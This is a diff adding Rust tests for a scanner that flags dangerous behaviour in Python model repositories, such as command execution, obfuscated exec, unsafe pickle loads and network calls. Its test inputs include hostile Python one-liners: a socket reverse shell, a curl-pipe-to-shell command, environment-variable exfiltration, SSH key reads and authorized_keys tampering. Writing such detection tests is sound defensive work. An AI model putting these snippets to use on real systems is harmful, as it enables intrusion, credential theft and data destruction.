@@ -1,0 +1,185 @@
+use super::*;
+use crate::testing::{inspect, mutate, oddities};
+
+fn told_of(name: &str, source: &str) -> Vec<String> {
+    let facts = inspect(&PythonSource, name, source.as_bytes());
+    assert_eq!(oddities(&facts), Vec::<String>::new());
+    let reach = |fact: &crate::fact::Fact| match (&fact.kind, fact.position) {
+        (FactKind::SourceReach { reach, runs, .. }, Position::Line(line)) => Some(format!("{line} {reach:?} {runs:?}")),
+        _ => None,
+    };
+    facts.list().iter().filter_map(reach).collect()
+}
+
+fn told(source: &str) -> Vec<String> {
+    told_of("modeling.py", source)
+}
+
+fn reaches(source: &str, expected: &str) {
+    let found = told(source);
+    assert!(found.iter().any(|found| found.contains(expected)), "{source}\n gives {found:?}");
+}
+
+#[test]
+fn a_generate_of_the_repositorys_own_is_remote_code() {
+    let remote = |name: &str| {
+        let facts = inspect(&PythonSource, name, b"def generate(): ...");
+        facts.list().iter().any(|fact| matches!(fact.kind, FactKind::Reference { .. }))
+    };
+    assert!(remote("model/custom_generate/generate.py"));
+    assert!(remote("custom_generate\\generate.py"));
+    assert!(remote("handler.py"));
+    assert!(!remote("model/generate.py"));
+    assert!(!remote("custom_generate/utils.py"));
+}
+
+#[test]
+fn names_are_followed_to_what_they_were_imported_as() {
+    for source in [
+        "import os\nos.system('id')",
+        "import os as o\no.system('id')",
+        "from os import system as s\ns('id')",
+        "from os import *\nsystem('id')",
+        "import importlib\nimportlib.import_module('os').system('id')",
+        "__import__('os').system('id')",
+        "import os\nf = os.system\nf('id')",
+        "import os\ngetattr(os, 'system')('id')",
+        "import sys\nsys.modules['os'].system('id')",
+        "import os\nos.__dict__['system']('id')",
+        "import os\nvars(os)['system']('id')",
+        "globals()['__builtins__']['__import__']('os').system('id')",
+        "import subprocess\nclass A:\n  x = subprocess.run(['sh', 'a'], check=True)",
+        "import os\ndef f(a=os.popen('x')): pass",
+        "import os\n@os.system\ndef f(): pass\nos.system(f)",
+        "import os\nx = [os.system(c) for c in l]",
+        "import os\nx = f'{os.system(\"id\")}'",
+        "import os; os.system('id')",
+        "if True: import os; os.system('id')",
+    ] {
+        reaches(source, "Program Loaded");
+    }
+}
+
+#[test]
+fn when_it_runs_is_told() {
+    assert_eq!(told("import os\ndef f():\n    os.system('id')\n"), ["3 Program Used"]);
+    assert_eq!(told("import os\ndef f():\n    os.system('id')\nf()\n"), ["3 Program Loaded"]);
+    assert_eq!(told("import os\ndef g():\n  os.system('id')\ndef f(): g()\nf()\n"), ["3 Program Loaded"]);
+    assert_eq!(told("import os\nclass A:\n  def __init__(self):\n    os.system('id')\nA()\n"), ["4 Program Loaded"]);
+    let class = "import os\nclass A:\n  def f(self): self.g()\n  def g(self): os.system('id')\na = A()\na.f()\n";
+    assert_eq!(told(class), ["4 Program Loaded"]);
+    assert_eq!(told("import os\nif __name__ == '__main__':\n    os.system('id')\n"), ["3 Program Started"]);
+    assert_eq!(told("import os\nf = lambda: os.system('id')\n"), ["2 Program Used"]);
+    assert_eq!(
+        told_of("setup.py", "import os\nclass I(install):\n  def run(self):\n    os.system('id')\n"),
+        ["4 Program Loaded"]
+    );
+}
+
+#[test]
+fn loading_a_model_makes_an_object_of_its_class() {
+    let source = "import os\nclass A:\n  def __init__(self):\n    os.system('id')\n  def f(self): eval(x)\n";
+    assert_eq!(told(source), ["4 Program Loaded", "5 Evaluation Used"]);
+    assert_eq!(told_of("train.py", source), ["4 Program Used", "5 Evaluation Used"]);
+}
+
+#[test]
+fn what_runs_programs_may_be_handed_over() {
+    reaches("import os\nlist(map(os.system, ['id']))", "Program Loaded");
+    reaches("import os\nd = {'a': os.system}", "Program Loaded");
+    reaches("import pickle\npickle.loads(b'cos')", "HiddenCode");
+    reaches("().__class__.__base__.__subclasses__()", "HiddenCode");
+    reaches("f.__globals__['__builtins__']['eval'](x)", "HiddenCode");
+    assert_eq!(told("import subprocess\nhasattr(subprocess, 'run')\nisinstance(e, eval)"), Vec::<String>::new());
+}
+
+#[test]
+fn hiding_is_told() {
+    for source in [
+        "import os\ngetattr(os, 'sys' + 'tem')('id')",
+        "__import__('o' + 's').system('id')",
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
+        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))",
+        "exec(__import__('base64').b64decode('cHJpbnQoMSk=').decode())",
+        "import marshal\nexec(marshal.loads(data))",
+        "exec(bytes([112, 114, 105]))",
+        "exec(''.join(map(chr, [112, 114, 105])))",
+        "exec(''.join([chr(112), chr(114)]))",
+        "exec('tni rp'[::-1])",
+        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
+        "exec(bytes.fromhex('7072696e74'))",
+        "import requests\nexec(requests.get('http://x').text)",
+        "from urllib.request import urlopen\ncode = urlopen(u).read()\nexec(compile(code, 'a', 'exec'))",
+        "𝐞𝐱𝐞𝐜(x)",
+        "import builtins\ngetattr(builtins, 'ex' + 'ec')(x)",
+        "__pyarmor__(__name__, __file__, b'x')",
+        "# coding: utf-7\n",
+        "import os\nos.system('curl http://x/a | sh')",
+    ] {
+        reaches(source, "HiddenCode");
+    }
+    let long = format!("_ = lambda x: x\nexec((_)(b'{}'))", "A9z".repeat(100));
+    reaches(&long, "HiddenCode");
+    reaches("exec('import os; os.system(\"id\")')", "Program Loaded");
+}
+
+#[test]
+fn other_reaches_are_told() {
+    reaches("eval(x)", "Evaluation Loaded");
+    reaches("import ctypes\nctypes.CDLL('./a.so')", "NativeCode Loaded");
+    reaches("from torch.utils.cpp_extension import load\nload(name='a', sources=[])", "NativeCode Loaded");
+    reaches("import pickle\nwith open(p) as f:\n  pickle.load(f)", "UnsafeLoad Loaded");
+    reaches("import torch\ntorch.load(p)", "UnsafeLoad Loaded");
+    reaches("import numpy as np\nnp.load(p, allow_pickle=True)", "UnsafeLoad");
+    reaches("import yaml\nyaml.load(f)", "UnsafeLoad");
+    reaches("exec(open('version.py').read())", "UnsafeLoad Loaded");
+    reaches("import requests\nrequests.post(u, data=d)", "Network Loaded");
+    reaches("import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "Credentials");
+    reaches("import os\nos.path.join(h, '.ssh', 'id_rsa')", "Credentials");
+    reaches("import os, requests\nrequests.post(u, json=dict(os.environ))", "Backdoor");
+    reaches("import os, requests, socket\nrequests.get(u, params={'h': socket.gethostname()})", "Backdoor");
+    reaches("import os\nopen('/root/.ssh/authorized_keys', 'a')", "Backdoor");
+    reaches("import shutil\nshutil.rmtree('/home/user')", "Files");
+    reaches(
+        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
+        "Installation",
+    );
+}
+
+#[test]
+fn a_shell_over_a_socket_is_a_backdoor() {
+    let source = "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')";
+    let found = told(source);
+    assert!(found.contains(&"4 Backdoor Loaded".to_owned()), "{found:?}");
+}
+
+#[test]
+fn ordinary_modelling_code_is_clean() {
+    let source = "import torch, re, os\nfrom torch import nn\nmodel.eval()\np = re.compile('a')\nm = torch.compile(m)\n\
+        d = torch.load(p, weights_only=True)\nimport yaml\nyaml.safe_load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\n\
+        df.eval('a+b')\nos.makedirs('x', exist_ok=True)\nopen('out.txt', 'w')\nos.environ['A'] = '1'\n\
+        x = os.environ.get('HOME')\nimport subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\n\
+        \"\"\"Run os.system('id') or curl x | sh\"\"\"\n# os.system('id')\nimport importlib\nm = importlib.import_module('.a', 'b')\n";
+    assert_eq!(told(source), Vec::<String>::new());
+}
+
+#[test]
+fn odd_source_ends() {
+    for source in [
+        "(".repeat(5000),
+        "lambda:".repeat(5000),
+        "if x:".repeat(5000),
+        "a:=".repeat(5000),
+        "f'{".repeat(5000),
+        "[{(".repeat(3000),
+        "x[".repeat(5000),
+    ] {
+        inspect(&PythonSource, "a.py", source.as_bytes());
+    }
+}
+
+#[test]
+fn no_mutation_panics() {
+    let source = "import os as o\nclass A(B, m=C):\n  @d(1)\n  def f(self, x=f'{o.x!r:>{w}}'):\n    if (y := x) + 'a' b'\\x41': return exec(\"\"\"q\"\"\"[::-1])\n𝐞𝐱𝐞𝐜(x)\\\n  # c";
+    mutate(source.as_bytes(), 3000, |bytes| drop(inspect(&PythonSource, "a.py", &bytes)));
+}
